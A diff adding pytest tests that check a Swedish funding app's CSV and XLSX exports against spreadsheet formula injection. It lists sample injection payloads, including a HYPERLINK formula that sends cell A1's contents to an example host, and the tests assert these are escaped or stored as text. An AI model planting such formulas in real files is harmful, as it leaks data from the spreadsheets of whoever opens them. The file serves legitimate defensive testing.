@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 from agreements.models import Agreement, AgreementStatus
 from funding import exports
 from funding.exports import datasets
-from funding.exports.writers import to_csv
+from funding.exports.writers import FORMULA_STARTS, to_csv
 from funding.models import IndexSeries, IndexValue, PaymentPlan
 from funding.payments import STATUS_LABELS as PAYMENT_LABELS
 from funding.services import register_payment
@@ -323,3 +323,71 @@ def test_agreement_list_links_to_exports_of_the_same_selection(client, demo):
     assert reverse("funding:export", args=["agreements", "xlsx"]) + "?status=ended" in content
     exports = content.split('class="exports"')[1].split("</nav>")[0]
     assert "status=ended" in exports and "sida=" not in exports
+
+
+# Text a spreadsheet program would run as a formula, one for each character that starts one.
+FORMULAS = [
+    '=HYPERLINK("https://example.se/?"&A1,"Klicka")',
+    "+46 SUM(A1:A9)",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def hostile_agreement(db):
+    """An active agreement whose every text a user typed starts like a formula."""
+    region = make_party(FORMULAS[0], kind="region", unit=FORMULAS[5])
+    org = make_party(FORMULAS[1])
+    agreement = make_agreement(
+        region, org, title=FORMULAS[2], case_number=FORMULAS[3], status=AgreementStatus.ACTIVE
+    )
+    line = make_line(
+        agreement, region, {2026: 100_000, 2027: 50_000}, purpose=FORMULAS[4], budget=FORMULAS[5]
+    )
+    PaymentPlan.objects.create(line=line, payee=org, bankgiro="403-4849", reference=FORMULAS[0])
+    register_payment(line=line, year=2026, paid_on=date(2026, 1, 20), amount=1_000)
+    return agreement
+
+
+def csv_exports(client):
+    """(name, response, format) of every CSV the app writes: each dataset in both CSV forms,
+    and the open data."""
+    for dataset in exports.DATASETS:
+        for fmt in ("csv", "csv-comma"):
+            yield f"{dataset}.{fmt}", export(client, dataset, fmt), fmt
+    yield "public", client.get(reverse("funding:public_csv")), "csv"
+
+
+def test_no_csv_cell_starts_like_a_formula(client, superuser, hostile_agreement):
+    client.force_login(superuser)
+    for name, response, fmt in csv_exports(client):
+        assert response.status_code == 200, name
+        header, rows = read(response, fmt)
+        cells = header + [cell for row in rows for cell in row]
+        assert [c for c in cells if c.startswith(FORMULA_STARTS)] == [], name
+        # The text is all there, shown as typed behind the apostrophe.
+        assert f"'{FORMULAS[2]}" in cells, name
+        # Amounts are numbers still.
+        amounts = [h for h in header if "(kr)" in h or h == "amount_sek"]
+        assert amounts and all(int(r[header.index(h)]) >= 0 for h in amounts for r in rows)
+
+
+def test_csv_decides_what_is_text_by_type_not_by_look():
+    body = to_csv(["=Rubrik"], [[-5, Decimal("-1.5"), "-5", "=1+1", date(2026, 1, 2), None]])
+    header, row = list(csv.reader(io.StringIO(body.decode("utf-8")[1:]), delimiter=";"))
+    assert header == ["'=Rubrik"]
+    assert row == ["-5", "-1.5", "'-5", "'=1+1", "2026-01-02", ""]
+
+
+@pytest.mark.parametrize("dataset", exports.DATASETS)
+def test_xlsx_writes_formula_like_text_as_text(client, superuser, hostile_agreement, dataset):
+    client.force_login(superuser)
+    response = export(client, dataset, "xlsx")
+    body = b"".join(response.streaming_content)
+    cells = [c for row in load_workbook(io.BytesIO(body)).active.iter_rows() for c in row]
+    assert [c.value for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert FORMULAS[2] in texts  # as typed: an XLSX cell has a type, no apostrophe needed
